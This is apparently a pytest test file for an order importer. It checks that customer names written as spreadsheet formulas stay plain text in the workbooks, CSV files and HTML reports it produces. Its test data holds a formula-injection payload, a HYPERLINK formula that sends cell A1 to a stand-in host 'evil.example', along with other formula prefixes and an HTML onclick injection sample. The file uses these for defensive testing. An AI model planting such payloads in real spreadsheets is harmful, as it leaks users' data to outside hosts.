"""A customer's name that is a formula: data in every file we leave behind, run by none, unchanged on the way back."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from made_runs import at, book, checked, csv_table, outcome, run, table
from openpyxl import load_workbook

from importer.model import Problem, Status
from importer.reports import rejected
from importer.reports.folder import Folder
from importer.reports.matched import matched
from importer.reports.summary import files_read, summarised
from importer.safe_text import is_formula, read

NASTY = '=HYPERLINK("http://evil.example/?"&A1,"click")'
KINDS = [NASTY, "+1+1", "-2+3", "@SUM(1)", "\t=1", " =1", "'=1", ";=1+1"]


def report(folder, sheet, outcomes):
    """Everything a run leaves behind for *sheet*."""
    with Folder(folder, "=1+1") as made:
        for one in outcomes:
            made.add(one)
        summary = summarised(run(files=files_read([sheet])), [sheet], outcomes)
        return {path.relative_to(made.path).as_posix(): path for path in made.finish(summary, [sheet], outcomes)}


def nasty_sheet(read):
    """A sheet whose one row is rejected, with the nasty cell as value, suggestion and part of the message."""
    name = read.frame.at[2, 1]
    where = at(read, 2, read.header[1], "not_a_choice", facts={"choices": name}, suggestion=name)
    return checked(read, "orders", [where, Problem(read.where, "not_a_choice", {"choices": name}, column=name)])


@pytest.mark.parametrize("name", KINDS)
def test_workbooks_hold_text(tmp_path, name):
    """In the marked workbook and among the rejected rows such cells are text cells with exactly that text."""
    lines = [["order_id", name], ["SO-1", name]]
    path = book(tmp_path / "june.xlsx", Orders=lines)
    sheet = nasty_sheet(table(path, "Orders", lines))

    made = report(tmp_path / "reports", sheet, [outcome(sheet.rows[0])])

    for file, sheet_of_ours in (("june.checked.xlsx", "Problems"), ("rejected/june.xlsx", "Orders")):
        workbook = load_workbook(made[file])
        kinds = {cell.data_type for one in workbook for row in one for cell in row if cell.value is not None}
        assert kinds == {"s"}
        assert [workbook["Orders"][place].value for place in ("B1", "B2")] == [name, name]
        # A text cell turns into a formula once somebody edits it, unless it is marked as text for good.
        ours = [cell for row in workbook[sheet_of_ours].iter_rows(min_row=2) for cell in row if cell.value]
        assert [cell.value for cell in ours if is_formula(cell.value) and not cell.quotePrefix] == []


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("name", KINDS)
def test_csv_is_not_run_and_comes_back_unchanged(tmp_path, name, separator):
    """Rejected CSV rows hold no cell that a spreadsheet runs, and give the very same cells when they are read again."""
    text = io.StringIO()
    csv.writer(text, delimiter=separator).writerows([["order_id", name], ["SO-1", name]])
    sheet = nasty_sheet(csv_table(tmp_path / "orders.csv", text.getvalue(), separator))

    made = report(tmp_path / "reports", sheet, [outcome(sheet.rows[0])])

    with made["rejected/orders.csv"].open(encoding="utf-8-sig", newline="") as file:
        found = list(csv.reader(file, delimiter=separator))
    assert [cell for row in found for cell in row if is_formula(cell)] == []
    assert [[read(cell) for cell in row][:2] for row in found] == [["order_id", name], ["SO-1", name]]


@pytest.mark.parametrize("name", KINDS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_lists_are_not_run_however_they_are_opened(tmp_path, name, separator):
    """results.csv and problems.csv hold no formula, not even to a program that separates cells by something else."""
    sheet = nasty_sheet(
        csv_table(tmp_path / "orders.csv", f'order_id,name\n"{name.replace(chr(34), chr(34) * 2)}",x\n')
    )
    sheet = nasty_sheet(table(sheet.table.path, "", [["order_id", name], [name, name]]))

    made = report(tmp_path / "reports", sheet, [outcome(sheet.rows[0])])

    for file in ("results.csv", "problems.csv"):
        text = made[file].read_text(encoding="utf-8-sig")
        cells = [cell for line in csv.reader(text.splitlines(), delimiter=separator) for cell in line]
        assert [cell for cell in cells if is_formula(cell)] == []
        assert text.count("\n") >= 2


@settings(max_examples=50, deadline=None)
@given(names=st.lists(st.text(alphabet="=+-@'\"\t\n ;,a1é", max_size=6), min_size=1, max_size=5))
def test_any_rows_come_back_from_rejected_csv(tmp_path_factory, names):
    """Whatever the cells say, the rejected rows read again are the rows that were rejected."""
    folder = tmp_path_factory.mktemp("run")
    lines = [["order_id", "name"], *([f"SO-{number}", name] for number, name in enumerate(names))]
    text = io.StringIO()
    csv.writer(text).writerows(lines)
    sheet = checked(csv_table(folder / "orders.csv", text.getvalue()), "orders")

    (made,) = rejected.write(folder / "back", matched([sheet], [outcome(row, Status.BLOCKED) for row in sheet.rows]))

    with made.open(encoding="utf-8-sig", newline="") as file:
        assert [[read(cell) for cell in row][:2] for row in csv.reader(file, strict=True)] == lines


def test_page_shows_the_formula_as_text(tmp_path):
    """On the page such a name is words between other words."""
    lines = [["order_id", "name"], ["SO-1", '=<b onclick="x">']]
    sheet = nasty_sheet(table(book(tmp_path / "june.xlsx", Orders=lines), "Orders", lines))

    page = report(tmp_path / "reports", sheet, [outcome(sheet.rows[0])])["report.html"].read_text(encoding="utf-8")

    assert "<b " not in page
    assert "=&lt;b onclick=&#34;x&#34;&gt;" in page
